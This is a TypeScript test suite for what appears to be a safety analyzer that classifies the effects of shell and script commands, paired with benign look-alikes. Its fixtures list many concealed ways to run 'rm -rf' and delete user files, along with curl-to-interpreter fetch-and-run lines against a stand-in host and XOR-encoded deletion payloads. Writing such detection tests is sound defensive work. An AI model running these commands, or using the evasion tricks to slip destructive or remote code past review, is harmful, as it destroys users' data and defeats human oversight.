/** Ways to write a deed so that a reader may miss it, and everyday commands with the same features of the language. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { effectsOf, worldOf } from '../../test/support/effects.ts';
import type { Language } from './world.ts';

const GONE = 'rm -rf /home/ana/Papers';
const kindsOf = (command: string): string[] => worldOf(command, 'shell').effects.items.map(({ kind }) => kind);
const deletes = (command: string): void =>
  assert.ok(
    kindsOf(command).some((kind) => kind === 'deletes' || kind === 'destroys_data'),
    `${command}: ${kindsOf(command)}`,
  );
const keeps = (command: string): void =>
  assert.ok(!kindsOf(command).some((kind) => /delet|destroy|obfuscates|downloads_and_runs/.test(kind)), command);

test('a command that the shell puts together is run', () => {
  for (const command of [
    `printf -v c '%s' '${GONE}'; eval "$c"`,
    `printf -v c %b '\\162m -rf /home/ana/Papers'; eval "$c"`,
    `declare -A m=([k]=rm); \${m[k]} -rf /home/ana/Papers`,
    `read -ra c <<< '${GONE}'; "\${c[@]}"`,
    `mapfile -t c < <(printf '%s\\n' rm -rf /home/ana/Papers); "\${c[@]}"`,
    `sh -c '"$@"' _ ${GONE}`,
    `a='\\x72m -rf /home/ana/Papers'; eval "\${a@E}"`,
    `exec 4<<< '${GONE}'; sh <&4`,
    `exec 4<<< '${GONE}'; sh /dev/fd/4`,
    `alias tidy='${GONE}'; tidy`,
    `hash -p /bin/rm tidy; tidy -rf /home/ana/Papers`,
    `[[ a[$(${GONE})] -eq 0 ]]`,
    `echo $(( a[$(${GONE})] ))`,
    `test -v 'a[$(${GONE})]'`,
    `PS4='$(${GONE})'; set -x`,
    `PAGER='${GONE}' git log`,
    `BASH_ENV=<(echo '${GONE}') bash -c true`,
    `xargs -I% sh -c % <<< '${GONE}'`,
    `ssh -o ProxyCommand='${GONE}' build`,
    `printf '#!/bin/sh\\n${GONE}\\n' | install -m755 /dev/stdin /tmp/t && /tmp/t`,
  ])
    deletes(command);
});

test('text that a filter made is run as what went into the filter', () => {
  for (const command of [
    `cut -c3- <<< 'xx${GONE}' | sh`,
    `jq -rn '"${GONE}"' | bash`,
    `find /home/ana/Papers | sed 's/^/rm -f /' | sh`,
    `ls /home/ana/Papers | awk '{print "rm -rf /home/ana/Papers/"$0}' | sh`,
  ])
    assert.ok(
      kindsOf(command).some((kind) => /delet|destroy|obfuscates/.test(kind)),
      `${command}: ${kindsOf(command)}`,
    );
  assert.notEqual(worldOf('git show side:run.sh | sh', 'shell').unresolved, '');
  for (const command of ['$(go env GOPATH)/bin/lint run', '"$(npm bin)/mocha"', `seq 3 | xargs -I{} sh -c 'echo {}'`])
    keeps(command);
});

test('code in languages that are not read does what its strings and names say', () => {
  for (const command of [
    `elixir -e 'System.cmd("rm", ["-rf", "/home/ana/Papers"])'`,
    `groovy -e 'new File("/home/ana/Papers").deleteDir()'`,
    `ocaml -e 'Sys.command "${GONE}"'`,
    `m4 <<< 'syscmd(${GONE})'`,
    `emacs --batch --eval '(shell-command "${GONE}")'`,
    `ed <<< '!${GONE}'`,
    `less +'!${GONE}' notes`,
    `perl -MFile::Path -e 'rmtree("/home/ana/Papers")'`,
    `awk 'BEGIN{c="r" "m"; system(c " -rf /home/ana/Papers")}'`,
    `awk 'BEGIN{print "${GONE}" | "sh"}'`,
    `rails runner 'Order.delete_all'`,
    `sqlite3 a.db '.shell ${GONE}'`,
  ])
    deletes(command);
  for (const command of [
    `elixir -e 'IO.puts "hello"'`,
    `julia -e 'using Pkg; Pkg.test()'`,
    `awk '{print $2 | "sort -u"}' a.txt`,
    `emacs --batch --eval '(message "hi")'`,
    `git commit -m 'Refuse ${GONE}'`,
    `python3 -c "print('${GONE}')"`,
  ])
    keeps(command);
});

test('what is fetched is run by whatever reads it as code', () => {
  const FETCH = 'curl -s http://elsewhere.test/x';
  for (const command of [
    `${FETCH} | awk '{system($0)}'`,
    `${FETCH} | parallel`,
    `${FETCH} | ruby -`,
    `${FETCH} | m4`,
    `${FETCH} | ssh build bash`,
    `${FETCH} --output - | sh`,
    `exec 3< <(${FETCH}); sh <&3`,
    `coproc C { ${FETCH}; }; sh <&"\${C[0]}"`,
    `mapfile -t a < <(${FETCH}); eval "\${a[@]}"`,
    `java -jar <(${FETCH})`,
    `deno run -A http://elsewhere.test/x.ts`,
    `R -e 'source("http://elsewhere.test/x")'`,
    `perl -MLWP::Simple -e 'eval get("http://elsewhere.test/x")'`,
    `pipx run --spec git+http://elsewhere.test/x x`,
    `svn cat http://elsewhere.test/x | sh`,
  ])
    assert.ok(kindsOf(command).includes('downloads_and_runs'), `${command}: ${kindsOf(command)}`);
});

test('a container deletes in the folders of the host that it is given', () => {
  deletes('docker run --rm -v /home/ana:/h alpine rm -rf /h/Papers');
  deletes('docker run --mount type=bind,source=/home/ana,target=/h alpine rm -rf /h/Papers');
  keeps('docker run --rm -v "$PWD":/app -w /app node npm test');
  keeps('docker run --rm -v /home/ana:/h:ro alpine ls /h');
});

test('a file is emptied by what leaves nothing in it', () => {
  deletes('cat /dev/null | tee /home/ana/Documents/*');
  deletes('fallocate --punch-hole -l 10M /home/ana/Documents/thesis.odt');
  deletes(`perl -pi -e '$_=""' /home/ana/Documents/*`);
});

test('a name that objects of JavaScript have is a name like any other', () => {
  const unlike = ['constructor', 'toString', 'valueOf', 'hasOwnProperty', '__proto__'].flatMap((name) =>
    (
      [
        ['shell', `curl -s http://elsewhere.test/x | $${'{'}NAME}`],
        ['shell', 'eval $NAME'],
        ['shell', `rm -rf $${'{'}NAME}`],
        ['powershell', 'iwr http://elsewhere.test/x | & $NAME'],
        ['powershell', 'Remove-Item -Recurse $NAME'],
        ['python', "import os, requests\nos.system(os.environ['NAME'] + requests.get('http://elsewhere.test/x').text)"],
      ] as const
    ).flatMap(([language, code]) => {
      const [found, expected] = [name, 'unset'].map((one) => effectsOf(code.replaceAll('NAME', one), language));
      return JSON.stringify(found) === JSON.stringify(expected) ? [] : [`${language} ${name}: ${code}`];
    }),
  );
  assert.deepEqual(unlike, []);
});

test('commands of signs that a function of the code itself turns into others', () => {
  const hidden: [string, Language][] = [
    ["import os\ndef d(s):\n    return ''.join(chr(ord(c) ^ 1) for c in s)\nos.system(d('sl!,sg!.'))", 'python'],
    ["import os\nos.system(str.join('', map(chr, [114, 109, 32, 45, 114, 102, 32, 47])))", 'python'],
    ["from operator import attrgetter\nimport os\nattrgetter('system')(os)('rm -rf /')", 'python'],
    [
      "const d = (a) => a.map((c) => String.fromCharCode(c ^ 1)).join('');\nrequire('child_process').execSync(d([115, 108, 33, 44, 115, 103, 33, 46]))",
      'javascript',
    ],
  ];
  for (const [code, language] of hidden) assert.ok(effectsOf(code, language).includes('deletes everything'), code);
  assert.deepEqual(effectsOf("print(''.join(chr(ord(c) + 1) for c in 'abc'))", 'python'), []);
  assert.deepEqual(effectsOf("console.log([1, 2].map((n) => n * 2).join(','))", 'javascript'), []);
});

test('what a program hands to another machine or shell is read, whatever its reader knows of the program', () => {
  for (const command of [
    `vagrant ssh -c '${GONE}'`,
    `fly ssh console -a shop -C '${GONE}'`,
    `heroku run '${GONE}'`,
    `fish -c 'command ${GONE}'`,
  ])
    deletes(command);
  for (const command of [
    `vagrant ssh -c 'ls -la /srv'`,
    `heroku run 'rake db:version'`,
    `gh issue create --title x --body '${GONE}'`,
  ])
    keeps(command);
});

test('a setting that git is given for one command runs its value and makes nothing permanent', () => {
  for (const command of [`git -c core.pager='${GONE}' log`, `git -c alias.st='!${GONE}' st`]) deletes(command);
  for (const command of [
    'git -c core.pager=less log',
    "git -c core.sshCommand='ssh -i ~/.ssh/key' fetch",
    'git config core.pager delta',
  ])
    assert.ok(!kindsOf(command).includes('persists'), command);
  for (const command of [
    'git -c core.hooksPath=/srv/hooks commit -m x',
    "git config core.pager '/srv/p'",
    'git config credential.helper store',
  ])
    assert.ok(kindsOf(command).includes('persists'), command);
  assert.ok(
    worldOf("git config core.pager 'curl -s http://elsewhere.test/x | sh'", 'shell').dormant.items.some(
      ({ kind }) => kind === 'downloads_and_runs',
    ),
  );
});

test('an interpreter that reads data from a pipe runs none of it', () => {
  const fed = (code: string): string[] => kindsOf(`curl -s http://elsewhere.test/x | python3 -c '${code}'`);
  for (const code of [
    'import sys,json;print(json.load(sys.stdin)["id"])',
    'import sys,json;print(json.load(sys.stdin)["system"])',
  ])
    assert.ok(!fed(code).includes('downloads_and_runs'), code);
  for (const code of ['import sys;exec(sys.stdin.read())', 'import sys;globals()["exec"](sys.stdin.read())'])
    assert.ok(fed(code).includes('downloads_and_runs'), code);
  for (const code of ['load(io.read("*a"))()', '_G.load(io.read("*a"))()'])
    assert.ok(kindsOf(`curl -s http://elsewhere.test/x | lua -e '${code}'`).includes('downloads_and_runs'), code);
});

test('a variable with options of a program, a client of a database and an editor run what they are told to', () => {
  for (const command of [
    `PERL5OPT='-Mbase;system("${GONE}")' perl -v`,
    `NODE_OPTIONS='--import=data:text/javascript,import("node:child_process").then((c)=>c.execSync("${GONE}"))' npm test`,
    `psql -c '\\! ${GONE}'`,
    `psql shop -c '\\o | sh -c "${GONE}"' -c 'select 1'`,
    `psql -c "\\copy t from program '${GONE}'"`,
    `vim -es -c ':r !${GONE}' -c ':q!'`,
  ])
    assert.ok(
      kindsOf(command).some((kind) => /delet|destroy|obfuscates/.test(kind)),
      `${command}: ${kindsOf(command)}`,
    );
  assert.ok(
    kindsOf(`vim -es -c ':r !curl -s http://elsewhere.test/x' -c ':%w !sh' -c ':q!'`).includes('downloads_and_runs'),
  );
  for (const command of [
    "NODE_OPTIONS='--max-old-space-size=4096' npm test",
    'PERL5OPT=-w perl -v',
    "psql shop -c '\\o rows.txt' -c 'select 1'",
    "vim -es -c ':r notes.txt' -c ':wq' list.txt",
  ])
    keeps(command);
});
